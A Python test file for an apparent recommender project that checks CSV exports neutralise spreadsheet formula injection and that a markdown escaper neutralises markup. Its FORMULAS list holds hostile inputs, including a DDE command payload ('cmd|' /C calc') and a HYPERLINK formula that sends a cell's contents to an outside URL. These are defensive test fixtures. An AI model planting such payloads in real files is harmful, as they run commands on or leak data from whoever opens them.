"""No cell that is given out is run by a spreadsheet, and each comes back as it was."""

from __future__ import annotations

import csv
import io

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from autorec_core import exports
from autorec_core.hyperparameters import Hyperparameters
from autorec_core.imports import read_history
from autorec_core.ratings import Items, Ratings, RatingScale
from autorec_core.runs import RunConfig, RunStore
from autorec_core.splits import random_split
from autorec_core.spreadsheets import as_text, from_text
from autorec_core.titles import titles_of_csv
from autorec_core.training import Trainer
from pages.shared.plain import escaped

FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1,"Alien")',
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "'=1+1",
    "''@x",
    " =1+1",
    "\t=1+1",
    "＝1+1",
)


@settings(max_examples=60)
@given(st.text() | st.sampled_from(FORMULAS) | st.text("'=+-@ \t\r\n＝a"))
def test_every_text_comes_back_and_none_begins_a_formula(text: str) -> None:
    out = as_text(text)
    assert from_text(out) == text
    assert out.strip()[:1] not in ("=", "+", "-", "@", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("layout", exports.LAYOUTS)
def test_titles_that_are_formulas_go_out_harmless_and_come_back(layout: str) -> None:
    titles = [f"{formula.strip()} {number}" for number, formula in enumerate(FORMULAS)]
    items = Items(
        ids=np.array([f"=id{number}" for number in range(len(titles))]),
        titles=np.array(titles),
        years=np.full(len(titles), 1999, dtype=np.int32),
        genres=((),) * len(titles),
    )
    given = {str(item_id): 4.0 for item_id in items.ids}
    text = exports.as_file(layout, given, items, RatingScale(1, 5, 1))
    for row in csv.reader(io.StringIO(text, newline="")):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
    entries = read_history("ratings.csv", text.encode()).entries
    assert [entry.title for entry in entries] == titles
    assert [entry.movielens_id for entry in entries] == items.ids.tolist()


def test_the_table_of_a_model_that_is_taken_home_is_harmless_and_comes_back(tmp_path, toy: Ratings) -> None:
    rows = np.nonzero(np.ones((6, 5)))
    ids = np.array(["=a", "'=b", "+c", "d", "@e"])
    titles = {name: (f"=TITLE({name})", 2000, ("-Noir",)) for name in ids}
    ratings = Ratings.from_triples(
        rows[0], ids[rows[1]], 1.0 + rows[0] % 5, name="hostile", scale=RatingScale(1, 5, 1), titles=titles
    )
    trainer = Trainer(random_split(ratings, seed=0), Hyperparameters(hidden_units=2, epochs=1, refit=False))
    list(trainer)
    run = RunStore(tmp_path).create(RunConfig())
    run.save_model(trainer.trained_model())
    table = (run.folder / "items.csv").read_text()
    for row in list(csv.reader(io.StringIO(table)))[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row[:4])
    back = run.load_model().items
    assert back.ids.tolist() == trainer.trained_model().items.ids.tolist()
    assert back.titles.tolist() == trainer.trained_model().items.titles.tolist()
    assert back.genres == trainer.trained_model().items.genres
    assert titles_of_csv("items.csv", table.encode())["=a"] == ("=TITLE(=a)", 2000, ("-Noir",))


@given(st.text(max_size=40))
def test_escaped_text_has_no_live_mark_of_markdown(text: str) -> None:
    out = escaped(text)
    bare = out.replace("\\\\", "")
    for mark in "`*[]~$<>&":
        assert bare.count(mark) == bare.count("\\" + mark)
    assert not any(ord(letter) < 32 and letter != "\n" for letter in out)
